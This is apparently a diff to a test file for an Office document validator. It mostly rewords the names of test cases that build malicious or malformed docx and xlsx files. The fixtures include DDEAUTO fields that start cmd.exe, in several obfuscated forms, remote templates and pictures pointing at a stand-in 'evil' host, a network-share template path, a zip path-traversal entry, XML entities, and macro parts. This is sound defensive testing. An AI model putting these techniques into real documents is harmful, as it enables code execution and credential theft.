@@ -34,7 +34,7 @@ const parts = (
     'docx',
     partKinds[detail].map((kind) => [
       detail,
-      `a part by its relationship, ${kind}`,
+      `a relationship of the type ${kind}`,
       () => withRelationship(kind, 'word/a.xml'),
     ]),
   ),
@@ -50,27 +50,31 @@ const documents = toBadFiles('docx', [
   ],
   [
     'office-structure',
-    'no archive',
+    'bytes after the end of the archive',
     () => Buffer.concat([writeOffice('docx'), Buffer.from('more')]),
   ],
-  ['office-structure', 'another way of packing', () => withEntry({ method: 9 })],
-  ['office-structure', 'a wrong size', () => withEntry({ uncompressedSize: 3 })],
-  ['office-structure', 'a path upwards', () => writeOffice('docx', { '../a.xml': '<a/>' })],
+  ['office-structure', 'an unknown compression method', () => withEntry({ method: 9 })],
+  ['office-structure', 'a part with a wrong size', () => withEntry({ uncompressedSize: 3 })],
   [
     'office-structure',
-    'one name twice',
+    'a path to a parent folder',
+    () => writeOffice('docx', { '../a.xml': '<a/>' }),
+  ],
+  [
+    'office-structure',
+    'two parts with the same name',
     () => writeOffice('docx', { 'WORD/document.xml': '<a/>' }),
   ],
   [
     'office-password',
-    'a password',
+    'an encrypted document',
     () =>
       Buffer.concat([
         Buffer.from('d0cf11e0a1b11ae1', 'hex'),
         Buffer.from('EncryptedPackage', 'utf16le'),
       ]),
   ],
-  ['content-differs', 'an old Word file', () => Buffer.from('d0cf11e0a1b11ae100', 'hex')],
+  ['content-differs', 'an old Word document', () => Buffer.from('d0cf11e0a1b11ae100', 'hex')],
   ['office-password', 'an encrypted part', () => withEntry({ flags: 1 })],
   [
     'office-too-large',
@@ -88,20 +92,20 @@ const documents = toBadFiles('docx', [
     'a part of 30 MB',
     () => writeOffice('docx', { 'word/media/a.bmp': Buffer.alloc(30_000_000) }),
   ],
-  ['office-macros', 'a program', () => writeOffice('docx', { 'word/vbaProject.bin': 'x' })],
+  ['office-macros', 'a VBA project', () => writeOffice('docx', { 'word/vbaProject.bin': 'x' })],
   [
     'office-macros',
-    'the type of a document with macros',
+    'the content type of a document with macros',
     () => withTypes('application/vnd.ms-word.document.macroEnabled.main+xml'),
   ],
   [
     'office-embedded-object',
-    'an object',
+    'an embedded object',
     () => writeOffice('docx', { 'word/embeddings/a.xml': '<a/>' }),
   ],
   [
     'office-embedded-object',
-    "an object's type",
+    'the content type of an embedded object',
     () =>
       withTypes(
         mainTypes.docx,
@@ -110,12 +114,12 @@ const documents = toBadFiles('docx', [
   ],
   [
     'office-remote-part',
-    'a template elsewhere',
+    'a remote template',
     () => withRelationship('attachedTemplate', 'http://evil/a.dotm', 'External'),
   ],
   [
     'office-remote-part',
-    'a template elsewhere, written oddly',
+    'a remote template in unusual XML',
     () =>
       writeOffice('docx', {
         [documentRelationships]: `<r:Relationships><r:Relationship Id='a>b' Type = 'x/attachedTemplate' TargetMode\n=\n'&#69;xternal' Target=""/></r:Relationships>`,
@@ -123,21 +127,25 @@ const documents = toBadFiles('docx', [
   ],
   [
     'office-remote-part',
-    'a template on a share',
+    'a template on a network share',
     () => withRelationship('attachedTemplate', 'file:///\\\\evil\\a.dotm', 'External'),
   ],
   [
     'office-remote-part',
-    'a picture elsewhere',
+    'a remote picture',
     () => withRelationship('image', 'http://evil/a.png', 'External'),
   ],
   ['office-data-exchange', 'a field that starts a program', () => withField('DDEAUTO c:\\cmd.exe')],
   [
     'office-data-exchange',
-    'a field in pieces',
+    'a field in several runs',
     () => withField('DD</w:instrText></w:r><w:r><w:instrText>EAUTO cmd '),
   ],
-  ['office-data-exchange', 'a field in entities', () => withField('&#68;DE<![CDATA[AUTO cmd]]>')],
+  [
+    'office-data-exchange',
+    'a field with entities and CDATA',
+    () => withField('&#68;DE<![CDATA[AUTO cmd]]>'),
+  ],
   [
     'office-data-exchange',
     'a field in an attribute',
@@ -148,16 +156,20 @@ const documents = toBadFiles('docx', [
   ],
   [
     'office-data-exchange',
-    'a picture that a field fetches',
+    'a field that includes a remote picture',
     () => withField('INCLUDEPICTURE "https://evil/a.png"'),
   ],
-  ['office-xml', 'a document type', () => withXml('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')],
+  [
+    'office-xml',
+    'a document type with an entity',
+    () => withXml('<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'),
+  ],
   [
     'office-data-exchange',
-    'a field in a part of an unknown name',
+    'a field in a part with an unknown extension',
     () => writeOffice('docx', { 'word/document.dat': '\n<instrText>DDEAUTO cmd</instrText>' }),
   ],
-  ['office-xml', 'zeros', () => withXml('<a>\0</a>')],
+  ['office-xml', 'a zero character', () => withXml('<a>\0</a>')],
   [
     'office-data-exchange',
     'a field in UTF-16',
@@ -165,12 +177,12 @@ const documents = toBadFiles('docx', [
   ],
   [
     'office-xml',
-    'another encoding',
+    'an unknown encoding',
     () => withXml('<?xml version="1.0" encoding="ebcdic-cp-us"?><a/>'),
   ],
   [
     'office-xml',
-    'relationships that break off',
+    'truncated relationships',
     () => writeOffice('docx', { [documentRelationships]: '<a' }),
   ],
 ]);
@@ -178,16 +190,16 @@ const documents = toBadFiles('docx', [
 const workbooks = toBadFiles('xlsx', [
   [
     'office-structure',
-    'a sheet that is smaller than said',
+    'a sheet that is smaller than its declared size',
     () =>
       writeOffice('xlsx', { 'xl/media/a.bmp': createText(1_000_000) }, [
         { name: 'xl/worksheets/sheet2.xml', data: '<a/>', uncompressedSize: 17 * 2 ** 20 },
       ]),
   ],
-  ['content-differs', 'a document', () => writeOffice('docx')],
+  ['content-differs', 'a Word document', () => writeOffice('docx')],
   [
     'office-data-exchange',
-    'a link to a program',
+    'a DDE link',
     () =>
       writeOffice('xlsx', {
         'xl/a.xml': '<x:externalLink><x:ddeLink ddeService="cmd"/></x:externalLink>',
@@ -195,12 +207,12 @@ const workbooks = toBadFiles('xlsx', [
   ],
   [
     'office-data-exchange',
-    'a connection',
+    'a data connection',
     () => writeOffice('xlsx', { 'xl/connections.xml': '<a/>' }),
   ],
   [
     'office-macros',
-    'old macros',
+    'Excel 4.0 macros',
     () => writeOffice('xlsx', { 'xl/macrosheets/sheet1.xml': '<a/>' }),
   ],
 ]);
